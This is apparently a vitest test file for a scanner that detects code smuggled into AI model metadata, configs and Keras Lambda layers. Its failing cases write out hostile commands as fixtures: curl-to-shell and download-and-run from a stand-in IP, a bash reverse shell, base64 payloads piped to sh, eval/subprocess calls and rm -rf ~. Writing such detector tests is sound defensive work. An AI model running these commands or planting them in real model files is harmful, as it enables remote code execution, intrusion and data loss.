import { compareSeverity } from "@modelaudit/core";
import { describe, expect, it } from "vitest";
import { scanValues, type TextValue } from "./text-value-handler.js";

interface Case {
  name: string;
  value: TextValue;
  /** ng: the message id expected, and the worst severity. */
  messageId?: string;
  severity?: "critical" | "warning" | "info";
}

const metadata = (text: string, key = "__metadata__.notes"): TextValue => ({ text, key, role: "metadata" });
const card = (text: string): TextValue => ({ text, key: "body", role: "documentation", line: 12 });
const lambda = (text: string): TextValue => ({ text, key: "keras.Lambda.function", role: "config" });

const ok: Case[] = [
  { name: "prose naming os.system", value: metadata("Never call os.system(cmd) with user input.") },
  { name: "a model id", value: metadata("meta-llama/Llama-2-7b-hf", "_name_or_path") },
  { name: "a license", value: metadata("Apache-2.0 (see LICENSE)") },
  { name: "prose with parentheses", value: metadata("eval (held-out split)") },
  { name: "a plain Python call", value: metadata('model = AutoModel.from_pretrained("gpt2")') },
  { name: "pip install", value: metadata("pip install transformers==4.44.0") },
  { name: "a training command", value: metadata("python train.py --lr 1e-4 --epochs 3") },
  { name: "a jinja template", value: metadata("{{ bos_token }}{% for m in messages %}{{ m.content }}{% endfor %}") },
  { name: "tokens are never code", value: { text: "os.system('id')", key: "vocab", role: "vocabulary" } },
  { name: "a benign Lambda", value: lambda("lambda x: x * 2.0 + 1") },
  {
    name: "wget to a file",
    value: metadata("wget https://example.com/data.tar.gz -O data.tar.gz && tar xzf data.tar.gz"),
  },
  {
    name: "a job command through bash -c",
    value: metadata('bash -c "pip install -r requirements.txt && python train.py"'),
  },
  { name: "chmod of a script that was not downloaded", value: metadata("chmod +x run.sh && ./run.sh --epochs 3") },
];

const ng: Case[] = [
  {
    name: "import os; os.system in safetensors metadata",
    value: metadata('import os; os.system("curl http://203.0.113.7/x | sh")'),
    messageId: "processCall",
    severity: "critical",
  },
  {
    name: "exec of base64 in a config value",
    value: metadata('exec(__import__("base64").b64decode("cHJpbnQoMSk="))', "training.callback"),
    messageId: "decodedCode",
    severity: "critical",
  },
  {
    name: "a Lambda source calling eval",
    value: lambda("lambda x: eval(\"__import__('os').system('id')\") or x"),
    messageId: "dynamicCode",
    severity: "critical",
  },
  {
    name: "a Lambda def calling subprocess",
    value: lambda("def f(x):\n    import subprocess\n    subprocess.run(['id'])\n    return x"),
    messageId: "processCall",
    severity: "critical",
  },
  {
    name: "curl piped to sh",
    value: metadata("curl -fsSL http://203.0.113.7/install.sh | sudo bash", "__metadata__.setup"),
    messageId: "shellDownloadExecute",
    severity: "critical",
  },
  {
    name: "base64 payload piped to sh",
    value: metadata("echo Y3VybCBldmlsIHwgc2g= | base64 -d | sh"),
    messageId: "shellDecodedExecute",
    severity: "critical",
  },
  {
    name: "reverse shell",
    value: metadata("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    messageId: "shellReverseShell",
    severity: "critical",
  },
  { name: "rm -rf home", value: metadata("rm -rf ~"), messageId: "shellDestructive", severity: "critical" },
  {
    name: "download, chmod +x and run",
    value: metadata("wget -q http://203.0.113.7/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent"),
    messageId: "shellDownloadExecute",
    severity: "critical",
  },
  {
    name: "python -c with os.system",
    value: metadata("python3 -c \"import os; os.system('id')\""),
    messageId: "processCall",
    severity: "critical",
  },
  {
    name: "a model card code sample is a note",
    value: card('import os; os.system("curl http://203.0.113.7/x | sh")'),
    messageId: "processCall",
    severity: "info",
  },
  {
    name: "a model card install line is a note",
    value: card("curl -fsSL https://example.com/install.sh | sh"),
    messageId: "shellDownloadExecute",
    severity: "info",
  },
];

describe("code in text values", () => {
  for (const entry of ok) {
    it(`ok: ${entry.name}`, async () => {
      const report = await scanValues([entry.value]);
      const flagged = report.findings.filter((finding) => finding.severity !== "info");
      expect(flagged.map((finding) => finding.message)).toEqual([]);
    });
  }
  for (const entry of ng) {
    it(`ng: ${entry.name}`, async () => {
      const report = await scanValues([entry.value]);
      const summary = report.findings.map((finding) => `${finding.severity} ${finding.message}`).join("\n");
      expect(
        report.findings.map((finding) => finding.messageId),
        summary,
      ).toContain(entry.messageId);
      const worst = report.findings.map((finding) => finding.severity).sort(compareSeverity)[0];
      expect(worst, summary).toBe(entry.severity);
      for (const finding of report.findings) {
        expect(finding.message).not.toMatch(/\{\{/);
        expect(finding.location?.path?.startsWith(entry.value.key ?? "")).toBe(true);
      }
    });
  }

  it("names the place and keeps the fact's line", async () => {
    const report = await scanValues([card('import os; os.system("id")')]);
    const [finding] = report.findings;
    expect(finding?.message).toContain("the documentation text `body`");
    expect(finding?.location?.line).toBe(12);
    expect(finding?.confidence).toBe(0.3);
  });
});
